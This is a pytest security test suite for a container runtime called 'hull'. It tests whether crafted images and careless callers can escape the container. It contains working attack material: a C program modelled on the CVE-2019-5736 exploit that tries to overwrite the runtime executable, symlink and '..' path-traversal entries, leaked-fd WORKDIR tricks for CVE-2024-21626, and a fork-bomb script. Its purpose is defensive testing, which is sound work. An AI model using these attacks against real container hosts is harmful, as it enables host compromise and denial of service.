"""Hostile images and hostile callers against `hull run`: every attack below is a known container
escape class. The images are made by `hull import` of crafted tarballs (the busybox rootfs plus
the hostile entries); the host keeps sentinels each attack would change if it worked.

- a VOLUME, -v or --tmpfs target that is a symlink out of the rootfs
- `..` and symlinks in WORKDIR
- CVE-2019-5736: the runtime's own executable reached through /proc/self/exe or /proc/PID/exe
- CVE-2024-21626: a host directory fd leaked into the container (ls /proc/self/fd, -w
  /proc/self/fd/N)
- a fork bomb under --pids-limit"""

import hashlib
import io
import os
import shutil
import subprocess
import tarfile
import time
import uuid
from pathlib import Path

import pytest

from hulltest import Hull, assert_no_crash

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="hull run needs root")


def sha256_path(path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def hostile_tar(busybox_tar: Path, out: Path, extra):
    """busybox rootfs + extra entries: (name, "symlink", target) | (name, "file", bytes, mode)
    | (name, "dir")."""
    with tarfile.open(busybox_tar) as src, tarfile.open(out, "w", format=tarfile.GNU_FORMAT) as dst:
        for m in src.getmembers():
            dst.addfile(m, src.extractfile(m) if m.isfile() else None)
        for entry in extra:
            info = tarfile.TarInfo("./" + entry[0].lstrip("/"))
            info.mtime = 1700000000
            if entry[1] == "symlink":
                info.type, info.linkname, info.mode = tarfile.SYMTYPE, entry[2], 0o777
                dst.addfile(info)
            elif entry[1] == "dir":
                info.type, info.mode = tarfile.DIRTYPE, 0o755
                dst.addfile(info)
            else:
                info.size, info.mode = len(entry[2]), entry[3]
                dst.addfile(info, io.BytesIO(entry[2]))
    return out


def hull_call(hull: Hull, *args, timeout=120, pass_fds=()):
    """hull with extra fds of this process left open in it (what a careless caller does)."""
    proc = subprocess.run([hull.binary, *map(str, args)], stdin=subprocess.DEVNULL,
                          capture_output=True, timeout=timeout, env=hull.env(), pass_fds=pass_fds)
    out, err = proc.stdout.decode("utf-8", "replace"), proc.stderr.decode("utf-8", "replace")
    assert_no_crash(err, f"hull {args}")
    return proc.returncode, out, err


def host_mount_points() -> set:
    with open("/proc/self/mountinfo") as f:
        return {line.split()[4] for line in f}


@pytest.fixture
def sentinel_dir():
    """A host directory under /tmp with a file an escape would change or shadow."""
    d = Path(f"/tmp/hull-sentinel-{uuid.uuid4().hex[:10]}")
    d.mkdir()
    (d / "sentinel").write_text("untouched\n")
    yield d
    shutil.rmtree(d, ignore_errors=True)


def assert_sentinel_untouched(d: Path):
    assert sorted(p.name for p in d.iterdir()) == ["sentinel"], list(d.iterdir())
    assert (d / "sentinel").read_text() == "untouched\n"
    assert not any(m == str(d) or m.startswith(str(d) + "/") for m in host_mount_points()), \
        "a container mount landed on the host directory"


def escape_links(sentinel: Path):
    """Symlinks that point out of the rootfs if resolved on the host: absolute with .., relative."""
    up = "/".join([".."] * 12)
    return [("data-abs", "symlink", f"/{up}{sentinel}"), ("data-rel", "symlink", f"{up}{sentinel}")]


# --- volume and mount targets ---

@pytest.mark.parametrize("link", ["data-abs", "data-rel"])
def test_image_volume_on_symlink_stays_inside(store, busybox_tar, tmp_path, sentinel_dir, link):
    tar = hostile_tar(busybox_tar, tmp_path / "evil.tar", escape_links(sentinel_dir))
    store.ok("import", tar, "evil:vol", "--change", f"VOLUME /{link}")
    out = store.ok("run", "--rm", "--network", "none", "evil:vol", "sh", "-c",
                   f"echo pwned > /{link}/sentinel; echo pwned > /{link}/new; ls /{link}")
    assert "new" in out
    assert_sentinel_untouched(sentinel_dir)


@pytest.mark.parametrize("link", ["data-abs", "data-rel"])
def test_bind_onto_symlink_stays_inside(store, busybox_tar, tmp_path, sentinel_dir, link):
    tar = hostile_tar(busybox_tar, tmp_path / "evil.tar", escape_links(sentinel_dir))
    store.ok("import", tar, "evil:bind")
    src = tmp_path / "bind-src"
    src.mkdir()
    out = store.ok("run", "--rm", "--network", "none", "-v", f"{src}:/{link}", "evil:bind",
                   "sh", "-c", f"echo from-container > /{link}/written; ls /{link}")
    assert "written" in out
    # The bind landed somewhere inside the container and took the write; the host path did not.
    assert (src / "written").read_text() == "from-container\n"
    assert_sentinel_untouched(sentinel_dir)


@pytest.mark.parametrize("link", ["data-abs", "data-rel"])
def test_tmpfs_onto_symlink_stays_inside(store, busybox_tar, tmp_path, sentinel_dir, link):
    tar = hostile_tar(busybox_tar, tmp_path / "evil.tar", escape_links(sentinel_dir))
    store.ok("import", tar, "evil:tmpfs")
    store.ok("run", "--rm", "--network", "none", "--tmpfs", f"/{link}", "evil:tmpfs",
             "sh", "-c", f"echo pwned > /{link}/sentinel; touch /{link}/new")
    assert_sentinel_untouched(sentinel_dir)


# --- working directory ---

def test_workdir_with_dotdot_stays_inside(store, busybox_tar):
    target = Path(f"/tmp/hull-evil-{uuid.uuid4().hex[:10]}")
    try:
        store.ok("import", busybox_tar, "evil:wd", "--change",
                 f"WORKDIR /../../../../..{target}")
        out = store.ok("run", "--rm", "--network", "none", "evil:wd", "sh", "-c",
                       "pwd; touch marker; ls")
        assert out.split()[0] == str(target), out
        assert not target.exists(), "WORKDIR was created on the host"
    finally:
        shutil.rmtree(target, ignore_errors=True)


def test_workdir_through_symlink_stays_inside(store, busybox_tar, tmp_path, sentinel_dir):
    tar = hostile_tar(busybox_tar, tmp_path / "evil.tar",
                      [("wd", "symlink", "/" + "/".join([".."] * 12) + f"{sentinel_dir}/sub")])
    store.ok("import", tar, "evil:wdlink", "--change", "WORKDIR /wd")
    store.run("run", "--rm", "--network", "none", "evil:wdlink", "sh", "-c", "touch marker")
    assert_sentinel_untouched(sentinel_dir)


# --- CVE-2019-5736: the runtime's executable ---

ATTACKER_C = r"""
/* Holds an O_PATH fd to the executable of every other process it sees whose file is not one of
   the container's own (the runtime's, if it ever shows), then keeps trying to reopen each for
   writing through /proc/self/fd, as the CVE-2019-5736 exploit does once the runtime process has
   exited. Prints every write that succeeded. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char** argv) {
  int seconds = argc > 1 ? atoi(argv[1]) : 5;
  static int held[8192];
  static char seen[1 << 16];
  int n = 0;
  time_t end = time(NULL) + seconds;
  setvbuf(stdout, NULL, _IONBF, 0);
  printf("attacker ready\n");
  while (time(NULL) < end) {
    DIR* d = opendir("/proc");
    struct dirent* e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == getpid() || pid >= (int)sizeof seen || seen[pid]) continue;
      char path[64], target[512];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_PATH);
      if (fd < 0) continue;
      seen[pid] = 1;
      ssize_t len = readlink(path, target, sizeof target - 1);
      target[len > 0 ? len : 0] = 0;
      struct stat exe, mine;
      if (fstat(fd, &exe) == 0 && stat(target, &mine) == 0 && exe.st_dev == mine.st_dev &&
          exe.st_ino == mine.st_ino) {
        close(fd); /* a file of the container itself: fair game for it, not an escape */
        continue;
      }
      printf("holding exe of pid %d from outside the container: [%s] %lu:%lu\n", pid, target,
             (unsigned long)exe.st_dev, (unsigned long)exe.st_ino);
      if (n < 8192) held[n++] = fd;
    }
    if (d) closedir(d);
    for (int i = 0; i < n; i++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      int w = open(path, O_WRONLY | O_APPEND);
      if (w >= 0) {
        struct stat st;
        if (write(w, "PWNED", 5) == 5 && fstat(w, &st) == 0)
          printf("WROTE %lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
        close(w);
      }
    }
    usleep(2000);
  }
  printf("attacker done\n");
  return 0;
}
"""


@pytest.fixture(scope="session")
def attacker_binary(tmp_path_factory) -> Path:
    if shutil.which("gcc") is None:
        pytest.skip("gcc is not installed: the CVE-2019-5736 attacker is a small static C program")
    d = tmp_path_factory.mktemp("attacker")
    (d / "attacker.c").write_text(ATTACKER_C)
    proc = subprocess.run(["gcc", "-static", "-O1", "-o", str(d / "attacker"),
                           str(d / "attacker.c")], capture_output=True, text=True, timeout=120)
    if proc.returncode != 0:
        pytest.skip(f"no static C toolchain here (libc.a): {proc.stderr[:300]}")
    return d / "attacker"


@pytest.fixture
def hull_copy(store, tmp_path) -> Hull:
    """A private copy of the hull binary (and its hull-runtime name) running on the same store: an
    attack that worked would corrupt this copy, never the build everyone uses."""
    d = tmp_path / "bin"
    d.mkdir()
    shutil.copy2(store.binary, d / "hull")
    os.symlink("hull", d / "hull-runtime")
    return Hull(d / "hull", store.root)


def test_entrypoint_symlink_to_proc_self_exe(hull_copy, busybox_tar, tmp_path):
    h = hull_copy
    before = sha256_path(h.binary)
    tar = hostile_tar(busybox_tar, tmp_path / "selfexe.tar",
                      [("bin/selfexe", "symlink", "/proc/self/exe")])
    h.ok("import", tar, "evil:selfexe", "--change", 'ENTRYPOINT ["/bin/selfexe"]')
    # Whatever the runtime's exe is at that moment, it runs as the container's process image and
    # must be a copy the container cannot write back to the host.
    h.run("run", "--rm", "--network", "none", "evil:selfexe", "version", timeout=60)
    h.run("run", "--rm", "--network", "none", "--entrypoint", "/bin/sh", "evil:selfexe", "-c",
          "echo PWNED >> /proc/self/exe; /bin/selfexe version; exit 0", timeout=60)
    assert sha256_path(h.binary) == before, "the host hull binary changed"


def test_container_cannot_write_runtime_exe_during_exec(hull_copy, busybox_tar, attacker_binary,
                                                        tmp_path):
    h = hull_copy
    before = sha256_path(h.binary)
    tar = hostile_tar(busybox_tar, tmp_path / "attacker.tar", [
        ("attacker", "file", attacker_binary.read_bytes(), 0o755),
        ("bin/selfexe", "symlink", "/proc/self/exe"),
    ])
    h.ok("import", tar, "evil:attacker")
    name = f"atk-{uuid.uuid4().hex[:8]}"
    h.ok("run", "-d", "--name", name, "--network", "none", "evil:attacker", "/attacker", "8")
    try:
        # exec makes runtime processes join the container: each is a target while it lives.
        for i in range(12):
            h.run("exec", name, "true", timeout=60)
            h.run("exec", name, "/bin/selfexe", "version", timeout=60)
        assert h.ok("wait", name, timeout=60).strip() == "0"
        logs = h.run("logs", name).stdout
        assert "attacker ready" in logs and "attacker done" in logs, logs
        # Writing a private copy of the runtime (a memfd) harms no one; the host file must stay.
        st = os.stat(h.binary)
        assert f"WROTE {st.st_dev}:{st.st_ino}\n" not in logs, logs
    finally:
        h.run("rm", "-f", name)
    assert sha256_path(h.binary) == before, "the host hull binary changed"


# --- CVE-2024-21626: host fds ---

@pytest.fixture
def host_dir_fds(tmp_path):
    """Open directory fds of the host, as a careless parent leaves them, with a marker inside."""
    d = tmp_path / "host-dir"
    d.mkdir()
    (d / "HOST_ONLY_MARKER").write_text("host\n")
    fds = [os.open(d, os.O_RDONLY | os.O_DIRECTORY), os.open("/", os.O_RDONLY | os.O_DIRECTORY)]
    yield fds
    for fd in fds:
        os.close(fd)


def fd_numbers(ls_output: str) -> set:
    return {int(line.split()[-3]) for line in ls_output.strip().split("\n")
            if line.startswith("l") and " -> " in line}


def test_host_fds_do_not_reach_the_container(store, host_dir_fds):
    rc, out, err = hull_call(store, "run", "--rm", "--network", "none", "busybox:latest",
                             "ls", "-l", "/proc/self/fd", pass_fds=host_dir_fds)
    assert rc == 0, err
    assert fd_numbers(out) <= {0, 1, 2, 3}, out  # 3: the directory ls itself reads
    assert "HOST_ONLY_MARKER" not in out and "host-dir" not in out


@pytest.mark.parametrize("which", [0, 1])
def test_workdir_through_a_leaked_fd_cannot_escape(store, host_dir_fds, which):
    fd = host_dir_fds[which]
    for wd in (f"/proc/self/fd/{fd}", f"/proc/self/fd/{fd}/..", "/proc/self/cwd/../../.."):
        rc, out, err = hull_call(store, "run", "--rm", "--network", "none", "-w", wd,
                                 "busybox:latest", "sh", "-c",
                                 "ls -a . .. ../..; cat ../../../../etc/hostname 2>&1",
                                 pass_fds=host_dir_fds)
        # Failing to start is fine; running with a cwd on the host is the escape.
        assert "HOST_ONLY_MARKER" not in out, f"-w {wd}: {out}"
        assert "pytest" not in out and "hull-sentinel" not in out, f"-w {wd}: {out}"


def test_exec_does_not_leak_host_fds(store, host_dir_fds):
    name = f"fds-{uuid.uuid4().hex[:8]}"
    store.ok("run", "-d", "--name", name, "--network", "none", "busybox:latest", "sleep", "60")
    try:
        rc, out, err = hull_call(store, "exec", name, "ls", "-l", "/proc/self/fd",
                                 pass_fds=host_dir_fds)
        assert rc == 0, err
        assert fd_numbers(out) <= {0, 1, 2, 3}, out
        rc, out, err = hull_call(store, "exec", "-w", f"/proc/self/fd/{host_dir_fds[0]}", name,
                                 "ls", "-a", pass_fds=host_dir_fds)
        assert "HOST_ONLY_MARKER" not in out, out
    finally:
        store.run("rm", "-f", name)


# --- fork bomb ---

BOMB_SLEEP = "3171"  # a duration nothing else on the machine sleeps for: finds the bomb's children


def bomb_processes() -> list:
    out = []
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        try:
            cmd = Path(f"/proc/{p}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if len(cmd) >= 2 and cmd[0].endswith(b"sleep") and cmd[1] == BOMB_SLEEP.encode():
            out.append(int(p))
    return out


def test_fork_bomb_is_contained_by_pids_limit(store):
    assert not bomb_processes(), "leftover bomb processes from an earlier run"
    name = f"bomb-{uuid.uuid4().hex[:8]}"
    script = (f"for i in $(seq 1000); do sleep {BOMB_SLEEP} & done 2>/dev/null; "
              f"echo spawned; sleep {BOMB_SLEEP}")
    store.ok("run", "-d", "--name", name, "--network", "none", "--pids-limit", "50",
             "busybox:latest", "sh", "-c", f"sh -c '{script}'; sleep {BOMB_SLEEP}")
    try:
        # Wait (bounded) until the bomb stops growing: the limit, not time, ends it.
        last, stable = -1, 0
        for _ in range(200):
            n = len(bomb_processes())
            stable = stable + 1 if n == last else 0
            last = n
            if stable >= 10:
                break
            time.sleep(0.05)
        assert 0 < last <= 50, f"{last} processes under --pids-limit 50"
    finally:
        store.run("rm", "-f", name)
    for _ in range(200):
        if not bomb_processes():
            break
        time.sleep(0.05)
    assert not bomb_processes(), "processes of the bomb outlived `hull rm -f`"
